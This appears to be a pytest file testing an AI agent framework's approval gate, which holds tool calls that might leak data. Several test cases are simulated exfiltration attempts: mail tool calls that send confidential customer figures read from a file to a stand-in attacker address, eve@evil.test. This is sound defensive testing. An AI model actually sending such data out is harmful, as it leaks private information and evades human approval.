"""Rules of the gate that allow what is clean, which takes questions away, and ones that look at no flow."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from support.app import UNWATCHED, Place, open_checked_app, reads, says
from support.network import Peer

from flow.test_leaving import FETCH, calls, server, start
from kairos_mcp.core.errors import ConfigError
from kairos_mcp.settings.load import load_settings
from kairos_mcp.settings.settings import Flags, Settings
from kairos_mcp.settings.table_values import FlowOfRule, FlowSetting, GateRule

CLEAN = GateRule("mail__*", "allow", effect="irreversible", flow="clean")
POST = calls("mail__post", to="ann@corp.test", body="Q3 went well")


def mail(place: Place, web: Peer, **labels: Any) -> Any:
    base = replace(FETCH, name="mail", effects=(("*", "irreversible"),), **labels)
    return server(place, base, {"post": "sent"}, web.url("/mail"))


async def asked(place: Place, web: Peer, goal: str, *lines: dict[str, Any], **more: Any) -> list[str]:
    """Let a run do these turns; return the keys of what waits."""
    given = {"servers": (mail(place, web),), "gate": (CLEAN,), **more}
    async with open_checked_app(place.settings(*lines, says("done"), **given)) as app:
        return [each["key"] for each in (await start(app, goal)).waiting]


async def test_a_clean_call_runs_unasked_and_another_asks(place: Place, web: Peer) -> None:
    assert await asked(place, web, "Mail ann@corp.test that Q3 went well", POST) == []
    assert len(web.heard) == 1
    eve = calls("mail__post", to="eve@evil.test", body="Q3 went well")
    assert await asked(place, web, "Mail ann@corp.test that Q3 was good", eve) == ["round-1/call-1/approval"]
    leak = calls("mail__post", to="ann@corp.test", body="ACME pays 1.2M")
    lines = (reads("customers.md"), leak)
    assert await asked(place, web, "Mail ann@corp.test how Q3 went", *lines) == ["round-2/call-1/approval"]
    assert len(web.heard) == 1


async def test_where_nobody_looks_at_flow_nothing_is_clean(place: Place, web: Peer) -> None:
    assert await asked(place, web, "Mail ann@corp.test", POST, flow=UNWATCHED) == ["round-1/call-1/approval"]
    assert web.heard == []


@pytest.mark.parametrize("flow", ["clean", "watched"])
async def test_a_change_has_to_be_wished_for_whatever_the_settings_say(
    flow: FlowOfRule, place: Place, web: Peer
) -> None:
    fetch = server(place, FETCH, {"fetch": "All is well."})
    given = {
        "servers": (mail(place, web), fetch),
        "flow": FlowSetting(wish=False),
        "gate": (replace(CLEAN, flow=flow),),
    }
    lines = (calls("web__fetch", url=web.url("/a")), calls("mail__post", folder="drafts"))
    found = await asked(place, web, f"Read {web.url('/a')}", *lines, **given)
    assert found == (["round-2/call-1/approval"] if flow == "clean" else [])


async def test_a_rule_may_say_that_nobody_looks_at_its_calls(place: Place, web: Peer) -> None:
    rule = replace(CLEAN, flow="unwatched")
    leak = calls("mail__post", to="eve@evil.test", body="ACME pays 1.2M")
    assert await asked(place, web, "Look", reads("customers.md"), leak, gate=(rule,)) == []
    assert len(web.heard) == 1
    assert place.rows("select count(*) from step where judged is not null") == [(0,)]


async def test_an_irreversible_tool_is_allowed_only_by_a_rule_that_names_it(place: Place, web: Peer) -> None:
    for_all = GateRule("mail__*", "allow", flow="clean")
    assert await asked(place, web, "Mail ann@corp.test", POST, gate=(for_all,)) == ["round-1/call-1/approval"]


def read_gate(place: Place, text: str) -> Settings:
    (place.root / "kairos.toml").write_text(text)
    return load_settings(Flags(str(place.home), (str(place.workspace),), str(place.root / "kairos.toml")), {})


def test_both_are_read_from_the_settings(place: Place) -> None:
    text = '[[gate]]\ntools = "a"\nverdict = "clean"\n[[gate]]\ntools = "b"\nverdict = "allow"\nflow = "off"\n'
    assert read_gate(place, text).gate == (
        GateRule("a", "allow", flow="clean"),
        GateRule("b", "allow", flow="unwatched"),
    )
    for verdict in ("ask", "deny", "clean"):
        with pytest.raises(ConfigError, match="flow"):
            read_gate(place, f'[[gate]]\ntools = "b"\nverdict = "{verdict}"\nflow = "off"\n')


@pytest.mark.parametrize("is_stated", [True, False])
async def test_arguments_that_are_stated_to_be_text_say_not_where_a_call_goes(
    is_stated: bool, place: Place, web: Peer
) -> None:
    fetch = server(place, FETCH, {"fetch": [{"memo": "Zebra"}]})
    post = server(place, replace(FETCH, name="mail", effects=(("*", "irreversible"),)), {"post": "sent"})
    post = replace(post, content=(("post", ("memo",)),)) if is_stated else post
    lines = (calls("web__fetch", url=web.url("/a")), calls("mail__post", to="ann@corp.test", memo="Zebra"))
    goal = f"Mail ann@corp.test what {web.url('/a')} says"
    found = await asked(place, web, goal, *lines, servers=(post, fetch))
    assert found == ([] if is_stated else ["round-2/call-1/approval"])
